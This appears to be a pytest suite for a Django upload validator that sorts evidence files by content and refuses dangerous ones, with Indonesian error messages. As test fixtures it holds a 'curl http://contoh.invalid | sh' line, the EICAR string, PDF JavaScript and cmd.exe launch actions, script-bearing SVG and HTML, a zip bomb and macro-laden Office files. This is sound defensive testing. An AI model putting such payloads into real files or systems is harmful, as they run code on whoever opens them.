"""core.filecheck: uploads are judged by their content. Every file here is built for real."""

import hashlib
import io
import itertools
import struct
import zipfile
import zlib

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from core.filecheck import EVIDENCE_KINDS, FileKind, FileRefused, check_upload, sniff

MB = 1024 * 1024
# Built from two halves, as in the module, so that no scanner quarantines this file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# ---------------------------------------------------------------------------------------------
# Builders


def pdf(*extra_objects: bytes, catalog: bytes = b"", comment: bytes = b"") -> bytes:
    """A minimal, valid one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + comment)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def object_stream(content: bytes) -> bytes:
    packed = zlib.compress(content)
    return b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )


def image(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, fmt)
    return out.getvalue()


def zip_of(members: dict[str, bytes], *, first: tuple[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(first[0], first[1], compress_type=zipfile.ZIP_STORED)
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def content_types(main: str) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/main.xml" ContentType="' + main.encode() + b'"/></Types>'
    )


def docx(*, main: str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", **more):
    return zip_of(
        {
            "[Content_Types].xml": content_types(main),
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document><w:body><w:p>Bukti dukung</w:p></w:body></w:document>",
            **more,
        }
    )


def pptx() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": content_types(
                "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
            ),
            "_rels/.rels": b"<Relationships/>",
            "ppt/presentation.xml": b"<p:presentation/>",
            "ppt/slides/slide1.xml": b"<p:sld/>",
        }
    )


def xlsx() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "Capaian"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def odf(kind: str, **more) -> bytes:
    return zip_of(
        {"content.xml": b"<office:document-content/>", "META-INF/manifest.xml": b"<manifest/>", **more},
        first=("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
    )


def ole2(*names) -> bytes:
    """A compound file (legacy Office) whose root holds `names`; a (name, [children]) pair is a storage."""
    entries = [["Root Entry", 5, [], 0xFFFFFFFF]]

    def add(items):
        indexes = []
        for item in items:
            name, children = item if isinstance(item, tuple) else (item, [])
            entries.append([name, 1 if children else 2, [], 0xFFFFFFFF])
            index = len(entries) - 1
            entries[index][2] = add(children)
            indexes.append(index)
        return indexes

    entries[0][2] = add(names)
    # Children hang as a chain of right siblings: a degenerate but valid tree.
    records = []
    for name, entry_type, children, _ in entries:
        raw = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\0\0"
        raw[: len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 0x40, len(encoded), entry_type, 1)
        struct.pack_into("<III", raw, 0x44, 0xFFFFFFFF, 0xFFFFFFFF, children[0] if children else 0xFFFFFFFF)
        records.append(raw)
        for left, right in itertools.pairwise(children):
            entries[left][3] = right
    for index, entry in enumerate(entries):
        struct.pack_into("<I", records[index], 0x48, entry[3])
    while len(records) % 4:
        records.append(bytearray(128))
    directory_sectors = len(records) // 4
    fat = [0xFFFFFFFD] + [n + 1 for n in range(1, directory_sectors)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIII", header, 0x2C, 1, 1, 0, 4096)
    struct.pack_into("<IIII", header, 0x3C, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", header, 0x4C, 0, *[0xFFFFFFFF] * 108)
    return bytes(header) + struct.pack("<128I", *fat) + b"".join(records)


def refusal(data: bytes, filename: str, *, allowed=EVIDENCE_KINDS, max_bytes: int = 10 * MB) -> FileRefused:
    with pytest.raises(FileRefused) as caught:
        check_upload(io.BytesIO(data), filename=filename, allowed=allowed, max_bytes=max_bytes)
    return caught.value


# ---------------------------------------------------------------------------------------------
# Accepted


ACCEPTED = [
    (pdf(), "laporan.pdf", FileKind.PDF),
    (image("PDF"), "pindaian.pdf", FileKind.PDF),
    (image("JPEG"), "foto.jpg", FileKind.JPEG),
    (image("PNG"), "tangkapan.png", FileKind.PNG),
    (image("WEBP"), "foto.webp", FileKind.WEBP),
    (image("GIF"), "animasi.gif", FileKind.GIF),
    (docx(), "notulen.docx", FileKind.DOCX),
    (xlsx(), "capaian.xlsx", FileKind.XLSX),
    (pptx(), "paparan.pptx", FileKind.PPTX),
    (odf("text"), "notulen.odt", FileKind.ODT),
    (odf("spreadsheet"), "capaian.ods", FileKind.ODS),
    (odf("presentation"), "paparan.odp", FileKind.ODP),
    (ole2("WordDocument", "1Table", "\x05SummaryInformation"), "surat.doc", FileKind.DOC),
    (ole2("Workbook", "\x05SummaryInformation"), "rekap.xls", FileKind.XLS),
    (ole2("Book"), "rekap-excel95.xls", FileKind.XLS),
    (ole2("Current User", "PowerPoint Document", "Pictures"), "paparan.ppt", FileKind.PPT),
]


@pytest.mark.parametrize(("data", "filename", "kind"), ACCEPTED, ids=[case[1] for case in ACCEPTED])
def test_it_accepts_each_evidence_kind_and_describes_it(data, filename, kind):
    checked = check_upload(io.BytesIO(data), filename=filename, allowed=EVIDENCE_KINDS, max_bytes=MB)
    assert checked.kind == kind
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert checked.safe_name == filename


def test_it_accepts_the_pdfs_terang_itself_prints():
    from weasyprint import HTML

    data = HTML(string="<h1>Sasaran Kinerja Pegawai</h1><p>Capaian 100%</p>").write_pdf()
    checked = check_upload(io.BytesIO(data), filename="skp.pdf", allowed=[FileKind.PDF], max_bytes=MB)
    assert checked.kind == FileKind.PDF


def test_a_word_file_with_an_embedded_spreadsheet_is_still_a_word_file():
    data = ole2("WordDocument", "1Table", ("ObjectPool", [("_1234", ["Workbook"])]))
    checked = check_upload(io.BytesIO(data), filename="surat.doc", allowed=EVIDENCE_KINDS, max_bytes=MB)
    assert checked.kind == FileKind.DOC


def test_the_name_is_reduced_to_a_safe_basename_with_the_real_extension():
    data = pdf()
    odd = "C:\\fakepath\\..\\../etc/Laporan\x00\x07 \u202eAkhir:Q1?.PDF"
    checked = check_upload(io.BytesIO(data), filename=odd, allowed=EVIDENCE_KINDS, max_bytes=MB)
    assert checked.safe_name == "Laporan Akhir_Q1_.pdf"


def test_a_name_without_extension_gets_the_one_of_its_content():
    checked = check_upload(io.BytesIO(image("PNG")), filename="tangkapan layar", allowed=EVIDENCE_KINDS, max_bytes=MB)
    assert checked.safe_name == "tangkapan layar.png"
    checked = check_upload(io.BytesIO(pdf()), filename="versi 1.2", allowed=EVIDENCE_KINDS, max_bytes=MB)
    assert checked.safe_name == "versi 1.2.pdf"
    checked = check_upload(io.BytesIO(pdf()), filename="../", allowed=EVIDENCE_KINDS, max_bytes=MB)
    assert checked.safe_name == "berkas.pdf"


def test_a_long_name_is_cut_to_120_characters_keeping_the_extension():
    checked = check_upload(io.BytesIO(pdf()), filename="a" * 300 + ".pdf", allowed=EVIDENCE_KINDS, max_bytes=MB)
    assert len(checked.safe_name) == 120
    assert checked.safe_name.endswith("aaa.pdf")


def test_another_ending_of_the_same_kind_is_kept():
    checked = check_upload(io.BytesIO(image("JPEG")), filename="FOTO.JPEG", allowed=EVIDENCE_KINDS, max_bytes=MB)
    assert (checked.kind, checked.safe_name) == (FileKind.JPEG, "FOTO.jpeg")


def test_a_django_upload_is_checked_and_left_at_its_start():
    upload = SimpleUploadedFile("foto.png", image("PNG"), content_type="image/png")
    upload.read(10)
    checked = check_upload(upload, filename=upload.name, allowed=[FileKind.PNG, FileKind.JPEG], max_bytes=MB)
    assert checked.kind == FileKind.PNG
    assert upload.tell() == 0


def test_the_size_limit_defaults_to_the_evidence_setting(settings):
    settings.EVIDENCE_UPLOAD_MAX_BYTES = MB
    data = pdf(comment=b"%" + b"x" * MB + b"\n")
    with pytest.raises(FileRefused) as caught:
        check_upload(io.BytesIO(data), filename="besar.pdf", allowed=EVIDENCE_KINDS)
    error = caught.value
    assert error.code == "too_large"
    assert error.message == "Berkas terlalu besar. Batasnya 1 MB."


# ---------------------------------------------------------------------------------------------
# Refused


def test_an_empty_file_is_refused():
    error = refusal(b"", "kosong.pdf")
    assert error.code == "empty"
    assert error.message == "Berkas kosong. Pilih berkas yang berisi lalu unggah lagi."


def test_a_file_over_the_limit_is_refused_naming_the_limit_in_mb():
    error = refusal(image("PNG") + b"\0" * (2 * MB), "besar.png", max_bytes=2 * MB)
    assert error.code == "too_large"
    assert "Batasnya 2 MB" in error.message
    assert "Batasnya 1,5 MB" in refusal(b"x" * (2 * MB), "besar.pdf", max_bytes=3 * MB // 2).message


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 200 + b"PE\0\0", "laporan.pdf"),
        (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "foto.png"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 200, "notulen.docx"),
        (b"#!/bin/sh\ncurl http://contoh.invalid | sh\n", "capaian.xlsx"),
    ],
    ids=["windows-exe", "elf", "mach-o", "shell-script"],
)
def test_a_renamed_program_is_refused(data, filename):
    error = refusal(data, filename)
    assert error.code == "executable"
    assert error.message.startswith("Berkas ditolak karena berisi program yang dapat dijalankan")


def test_the_eicar_signature_is_refused_even_inside_a_pdf_and_across_a_megabyte_boundary():
    padding = b"%" + b"x" * (MB - 40) + b"\n%"
    data = pdf(comment=padding + EICAR + b"\n")
    assert data.index(EICAR) < MB < data.index(EICAR) + len(EICAR)
    error = refusal(data, "laporan.pdf")
    assert error.code == "virus"
    assert "berisi pola virus" in error.message
    assert refusal(EICAR, "eicar.pdf").code == "virus"


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}), "notulen.docx"),
        (docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "notulen.docm"),
        (ole2("Workbook", ("_VBA_PROJECT_CUR", ["VBA"])), "rekap.xls"),
        (ole2("WordDocument", ("Macros", ["VBA"])), "surat.doc"),
        (odf("text", **{"Basic/Standard/Module1.xml": b"<script:module/>"}), "notulen.odt"),
    ],
    ids=["docx-vbaproject", "docm", "xls-vba", "doc-macros", "odt-basic"],
)
def test_an_office_file_with_macros_is_refused(data, filename):
    error = refusal(data, filename)
    assert error.code == "macro"
    assert error.message.startswith("Berkas ditolak karena berisi makro. Simpan sebagai ")


def test_an_odf_file_with_only_the_empty_macro_index_is_accepted():
    data = odf("text", **{"Basic/script-lc.xml": b"<library:libraries/>"})
    assert check_upload(io.BytesIO(data), filename="a.odt", allowed=EVIDENCE_KINDS, max_bytes=MB).kind == FileKind.ODT


def test_a_zip_bomb_is_refused():
    data = docx(**{"word/media/kosong.bin": b"\0" * (20 * MB)})
    assert len(data) < MB
    error = refusal(data, "notulen.docx")
    assert error.code == "bomb"
    assert "terlalu besar atau terlalu banyak bagian" in error.message


def test_a_zip_with_too_many_members_is_refused():
    data = docx(**{f"word/media/{n}.xml": b"" for n in range(5001)})
    error = refusal(data, "notulen.docx")
    assert error.code == "bomb"
    assert error.message.startswith("Berkas ditolak")


def _with_encrypted_members(data: bytes) -> bytes:
    # zipfile cannot write encrypted members; set the flag the way an encrypting tool would.
    raw = bytearray(data)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = raw.find(signature)
        while position != -1:
            raw[position + flag_offset] |= 0x1
            position = raw.find(signature, position + 4)
    return bytes(raw)


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (_with_encrypted_members(docx()), "rahasia.docx"),
        (ole2("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"), "rahasia.xlsx"),
    ],
    ids=["zip-encryption", "office-password"],
)
def test_an_encrypted_file_is_refused_because_it_cannot_be_checked(data, filename):
    error = refusal(data, filename)
    assert error.code == "encrypted"
    assert error.message.startswith("Berkas dilindungi kata sandi")


@pytest.mark.parametrize(
    "data",
    [
        pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 4 0 R"),
        pdf(b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream"),
        pdf(object_stream(b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"), catalog=b"/OpenAction 4 0 R"),
    ],
    ids=["javascript", "escaped-names", "launch", "embedded-file", "hidden-in-object-stream"],
)
def test_a_pdf_with_script_launch_or_embedded_file_is_refused(data):
    error = refusal(data, "laporan.pdf")
    assert error.code == "script"
    assert error.message.startswith("Berkas PDF ditolak karena berisi skrip")


def test_a_pdf_whose_object_stream_holds_only_ordinary_objects_is_accepted():
    data = pdf(object_stream(b"4 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"))
    assert check_upload(io.BytesIO(data), filename="a.pdf", allowed=EVIDENCE_KINDS, max_bytes=MB).kind == "pdf"


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "a.png"),
        (b"\n  <!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "foto.jpg"),
        (b"\xef\xbb\xbf<svg onload='alert(1)'/>", "logo.gif"),
        ("<html></html>".encode("utf-16"), "foto.webp"),
    ],
    ids=["svg", "html", "svg-with-bom", "utf16-html"],
)
def test_markup_pretending_to_be_an_image_is_refused(data, filename):
    error = refusal(data, filename)
    assert error.code == "markup"
    assert error.message.startswith("Berkas ditolak: isinya HTML, SVG, atau XML, bukan gambar")


def test_an_extension_that_disagrees_with_the_content_is_refused_naming_the_real_type():
    error = refusal(pdf(), "notulen.docx")
    assert error.code == "extension_mismatch"
    assert error.message == (
        "Nama berkas berakhiran .docx, tetapi isinya dokumen PDF. "
        "Ganti akhiran nama berkas menjadi .pdf atau pilih berkas yang benar."
    )
    assert refusal(image("PNG"), "foto.jpg").message.startswith("Nama berkas berakhiran .jpg, tetapi isinya gambar PNG")
    assert refusal(docx(), "virus.exe").code == "extension_mismatch"


def test_a_kind_not_allowed_here_is_refused_listing_what_is():
    error = refusal(image("PNG"), "foto.png", allowed=[FileKind.PDF, FileKind.DOCX])
    assert error.code == "not_allowed"
    assert error.message == "Isi berkas ini gambar PNG, yang tidak diterima di sini. Yang diterima: PDF, DOCX."


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b"Laporan kegiatan bulan Maret\n", "laporan.pdf"),
        (zip_of({"isi.txt": b"halo"}), "arsip.docx"),
        (ole2("Contents"), "gambar.doc"),
        (b"Rar!\x1a\x07\x00" + b"\0" * 50, "arsip.pdf"),
    ],
    ids=["text", "plain-zip", "other-ole2", "rar"],
)
def test_content_of_no_known_kind_is_refused_whatever_the_name(data, filename):
    error = refusal(data, filename)
    assert error.code == "unknown_type"
    assert error.message.startswith("Jenis berkas tidak dikenali dari isinya. Yang diterima: PDF, JPG, PNG")


@pytest.mark.parametrize(
    "data",
    [b"PK\x03\x04" + b"\x14\x00" * 40, ole2("WordDocument")[:300]],
    ids=["broken-zip", "cut-ole2"],
)
def test_a_damaged_container_is_refused(data):
    error = refusal(data, "notulen.docx")
    assert error.code == "damaged"
    assert error.message.startswith("Berkas rusak atau tidak lengkap")


# ---------------------------------------------------------------------------------------------
# sniff and FileKind


def test_sniff_reads_a_path_or_a_file_and_leaves_the_position(tmp_path):
    path = tmp_path / "tanpa-nama"
    path.write_bytes(xlsx())
    assert sniff(path) == FileKind.XLSX
    assert sniff(str(path)) == FileKind.XLSX
    handle = io.BytesIO(b"junk" + pdf())
    handle.seek(2)
    assert sniff(handle) is None
    assert handle.tell() == 2
    # A macro-enabled document is still a Word document to sniff; check_upload is the judge.
    assert sniff(io.BytesIO(docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"))) == FileKind.DOCX


def test_each_kind_has_an_extension_a_mime_type_and_an_indonesian_label():
    assert (FileKind.JPEG.extension, FileKind.JPEG.mime_type) == ("jpg", "image/jpeg")
    assert "jpeg" in FileKind.JPEG.extensions
    assert FileKind.XLSX.mime_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert str(FileKind.DOC.label) == "dokumen Word lama (.doc)"
    assert set(FileKind) == EVIDENCE_KINDS
